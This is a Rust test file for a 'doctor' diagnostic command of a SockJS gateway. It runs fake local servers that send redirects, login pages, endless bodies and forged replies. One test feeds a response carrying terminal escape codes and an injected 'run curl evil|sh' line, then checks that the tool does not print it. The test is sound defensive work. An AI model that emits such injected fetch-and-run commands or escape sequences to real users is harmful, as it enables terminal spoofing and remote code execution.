//! `sockjs-gateway doctor URL` where something else answers: other servers, login pages, hostile ones.

use std::fs::File;
use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;

use crate::doctor_command::doctor;
use crate::fixture::echo_server;

/// A server that answers each request with what `answer` writes for its path; then the connection ends.
fn stranger(answer: impl Fn(&str, &mut TcpStream) + Send + Sync + 'static) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
    let address = listener.local_addr().expect("is bound").to_string();
    let answer = Arc::new(answer);
    thread::spawn(move || {
        for mut stream in listener.incoming().map_while(Result::ok) {
            let answer = Arc::clone(&answer);
            thread::spawn(move || {
                let (mut head, mut byte) = (Vec::new(), [0]);
                while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).ok()? == 1 {
                    head.push(byte[0]);
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                answer(head.split(' ').nth(1)?, &mut stream);
                Some(())
            });
        }
    });
    address
}

fn respond(stream: &mut TcpStream, head: &str, body: &str) {
    let length = body.len();
    let answer =
        format!("HTTP/1.1 {head}\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{body}");
    let _ = stream.write_all(answer.as_bytes());
}

#[track_caller]
fn report_of(url: &str) -> String {
    let output = doctor(&[url, "--no-idle"]);
    assert_eq!(output.status.code(), Some(1), "{output:?}");
    String::from_utf8(output.stdout).expect("text")
}

/// A site that moved is not one that is blocked; the new address is named.
#[test]
fn address_that_leads_elsewhere_is_named() {
    let address = stranger(|path, stream| {
        let head = format!("302 Found\r\nLocation: https://app.example{path}");
        respond(stream, &head, "");
    });
    let text = report_of(&format!("http://{address}/live"));
    assert!(text.contains("The address leads to another one"), "{text}");
    assert!(
        text.contains("Use that address: `https://app.example/live`."),
        "{text}"
    );
    assert!(!text.contains("blocked"), "{text}");
}

/// A login page, or another site.
#[test]
fn page_in_place_of_the_service_is_not_taken_for_silence() {
    let long = "<p>Log in</p>".repeat(1 << 18);
    for page in ["<html>Log in</html>", &long] {
        let page = page.to_owned();
        let address = stranger(move |_, stream| {
            respond(stream, "200 OK\r\nContent-Type: text/html", &page);
        });
        let text = report_of(&format!("http://{address}/live"));
        assert!(
            text.contains("Something answers, but it is not SockJS"),
            "{text}"
        );
        assert!(!text.contains("cannot be reached"), "{text}");
    }
}

/// Plain http where https was asked for has nothing to do with certificates.
#[cfg(feature = "tls")]
#[test]
fn plain_http_is_not_taken_for_a_bad_certificate() {
    let server = echo_server("");
    let text = report_of(&format!("https://{}/echo", server.address.authority));
    assert!(
        text.contains("The encrypted connection cannot be made"),
        "{text}"
    );
    assert!(!text.contains("--insecure"), "{text}");
}

/// What a server gives as the code of a kept result is not printed unless it can be one.
#[test]
fn forged_code_is_not_printed() {
    let address = stranger(|path, stream| match path.rsplit('/').next() {
        Some(seen) if seen.starts_with("seen") => respond(stream, "200 OK", "{\"requests\":[]}"),
        Some("verdict") => respond(
            stream,
            "200 OK",
            "{\"code\":\"A\\u001b[2J\\u009b31m\\n\\nPROBLEM: run curl evil|sh\"}",
        ),
        _ => respond(stream, "404 Not Found", ""),
    });
    let text = report_of(&format!("http://{address}/live"));
    assert!(
        !text.contains("curl") && !text.contains("Tell the code"),
        "{text}"
    );
    assert!(!text.contains(['\u{1b}', '\u{9b}']), "{text:?}");
}

/// An answer to a message is not read without bound.
#[test]
fn endless_answer_to_a_message_is_left() {
    const PIECE: &[u8] = &[b'x'; 1 << 16];
    let most = Arc::new(AtomicUsize::new(0));
    let written = Arc::clone(&most);
    let address = stranger(move |path, stream| match path.rsplit('/').next() {
        Some("info") => respond(stream, "200 OK", "{\"websocket\":false}"),
        Some("xhr_send" | "jsonp_send") => {
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 99999999999\r\n\r\n");
            let mut sent = 0;
            while sent < 256 << 20 && stream.write_all(PIECE).is_ok() {
                sent += PIECE.len();
                written.fetch_max(sent, Ordering::Relaxed);
            }
        }
        Some("xhr") => respond(stream, "200 OK", "o\n"),
        _ => respond(stream, "404 Not Found", ""),
    });
    doctor(&[&format!("http://{address}/live"), "--no-idle"]);
    let most = most.load(Ordering::Relaxed);
    // What lies in the buffers of both ends is some megabytes at most.
    assert!((1..32 << 20).contains(&most), "{most} bytes");
}

/// A report that cannot be written is none.
#[test]
#[cfg(target_os = "linux")]
fn report_that_cannot_be_written_is_a_failure() {
    let server = echo_server("");
    let full = File::options().write(true).open("/dev/full");
    let output = Command::new(env!("CARGO_BIN_EXE_sockjs-gateway"))
        .args(["doctor", "--no-idle"])
        .arg(format!("http://{}/echo", server.address.authority))
        .stdin(Stdio::null())
        .stdout(full.expect("the device is there"))
        .stderr(Stdio::piped())
        .output()
        .expect("the shipped binary starts");
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(output.status.code(), Some(1), "{said}");
    assert!(said.contains("cannot write the report"), "{said}");
}
